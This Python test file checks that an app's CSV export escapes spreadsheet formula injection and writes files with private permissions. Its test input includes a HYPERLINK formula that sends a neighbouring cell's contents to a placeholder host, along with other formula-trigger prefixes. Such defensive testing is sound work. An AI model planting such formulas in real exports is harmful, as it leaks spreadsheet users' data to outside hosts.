"""`python -m app export`: what citizens typed cannot run as a spreadsheet formula, and the files are private."""

from __future__ import annotations

import csv
import os
import stat
import subprocess
import sys
from pathlib import Path

from fastapi.testclient import TestClient

from app.core.config import Settings
from app.main import create_app

FORMULA = '=HYPERLINK("http://x/?"&A2,"点击")'


def test_exported_csv_cells_never_start_a_formula_and_the_files_are_private(
        settings: Settings, current_index: Path, tmp_path: Path) -> None:
    data = tmp_path / "data"
    local = settings.model_copy(update={"data_dir": data, "rate_limit": "off"})
    with TestClient(create_app(local)) as app:
        app.post("/api/ask", json={"question": FORMULA})
        app.post("/api/ask", json={"question": "+通辽GDP是多少"})
        for question in ("@SUM(1+1)", "-2+3 GDP多少", "\t=1+1", "\u3000=1+1", "\u00a0-1+1"):
            app.post("/api/feedback", json={"verdict": "not_found", "question": question,
                                             "answer": "第一行\r\n第二行"})
        app.app.state.service.query_log.flush()  # type: ignore[attr-defined]

    out = tmp_path / "exports"
    env = os.environ | {"DATA_DIR": str(data)}
    subprocess.run([sys.executable, "-m", "app", "export", "--out", str(out)], env=env, check=True,
                   capture_output=True)
    cells = []
    for name in ("queries.csv", "feedback.csv"):
        with (out / name).open(encoding="utf-8-sig", newline="") as rows:
            cells += [cell for row in csv.reader(rows) for cell in row]
    assert "'" + FORMULA in cells and "'+通辽GDP是多少" in cells and "'@SUM(1+1)" in cells
    assert not [cell for cell in cells if cell.lstrip(" \u3000\u00a0")[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not [cell for cell in cells if any(ord(c) < 32 for c in cell)]
    assert "第一行  第二行" in cells
    assert stat.S_IMODE(out.stat().st_mode) == 0o700
    files = list(out.iterdir())
    assert len(files) == 4 and all(stat.S_IMODE(f.stat().st_mode) == 0o600 for f in files)
